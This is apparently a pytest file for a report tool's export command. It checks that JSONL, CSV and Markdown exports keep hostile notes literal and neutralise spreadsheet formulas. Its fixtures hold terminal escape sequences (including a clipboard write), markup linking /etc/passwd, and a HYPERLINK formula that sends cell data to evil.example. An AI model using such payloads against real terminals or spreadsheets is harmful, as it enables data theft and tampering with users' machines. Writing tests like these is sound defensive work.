"""Exports of hostile reports and notes: markup stays literal, nothing in the file can drive a
terminal or a spreadsheet, and JSONL keeps the analyst's note exactly."""
from __future__ import annotations

import csv
import io
import json

import pytest

from store.db import Store
from tests.conftest import ARTICLES
from tests.hostile import forbidden_in, hostile
from tui.cli import main

NOTE = "[bold red]check[/] [link=file:///etc/passwd]x[/] \x1b[2J\x1b]52;c;cHduZWQ=\x07 سيطر \u202eevil\u202c\x00"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def noted_store(tmp_path):
    folder = tmp_path / "store"
    with Store.open(folder) as st:
        st.ingest([hostile("markup.txt"), hostile("escapes.txt"), ARTICLES / "004_13ff700055651627.txt"])
        events = st.events()
        assert len(events) >= 2
        st.save_note(events[0]["id"], NOTE)
        st.save_note(events[1]["id"], FORMULA)
    return folder, events[0]["id"], events[1]["id"]


def export(capsys, folder, fmt, tmp_path) -> str:
    out_file = tmp_path / f"export.{fmt}"
    code = main(["export", "--store", str(folder), "--format", fmt, "--output", str(out_file)])
    out, err = capsys.readouterr()
    assert code == 0, err
    assert "Traceback" not in out + err
    assert forbidden_in(out) == [] and forbidden_in(err) == []
    return out_file.read_text(encoding="utf-8")


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "md"])
def test_export_file_holds_nothing_that_drives_a_terminal(capsys, noted_store, tmp_path, fmt):
    folder, _, _ = noted_store
    written = export(capsys, folder, fmt, tmp_path)
    assert forbidden_in(written) == [], forbidden_in(written)
    assert "[bold red]check[/]" in written  # markup stays literal
    assert "سيطر" in written


def test_jsonl_keeps_the_note_exactly_as_written(capsys, noted_store, tmp_path):
    folder, noted, formula = noted_store
    records = {r["id"]: r for r in map(json.loads, export(capsys, folder, "jsonl", tmp_path).splitlines())}
    assert records[noted]["note"] == NOTE
    assert records[formula]["note"] == FORMULA


def test_csv_cell_that_a_spreadsheet_would_run_is_quoted(capsys, noted_store, tmp_path):
    folder, _, formula = noted_store
    rows = list(csv.DictReader(io.StringIO(export(capsys, folder, "csv", tmp_path))))
    notes = [row["notes"] for row in rows if row.get("event_id") == formula] or [row["notes"] for row in rows if "HYPERLINK" in row["notes"]]
    assert notes and not notes[0].startswith(("=", "+", "-", "@")), notes


def test_markup_in_article_sentences_reaches_the_export_literally(capsys, noted_store, tmp_path):
    folder, _, _ = noted_store
    records = [json.loads(line) for line in export(capsys, folder, "jsonl", tmp_path).splitlines()]
    sentences = " ".join(r["sentence"] for r in records)
    if "[link=file:///etc/passwd]x[/] [@click=app.quit]quit[/]" not in sentences:
        pytest.fail("no event from the markup report was exported with its sentence literal")
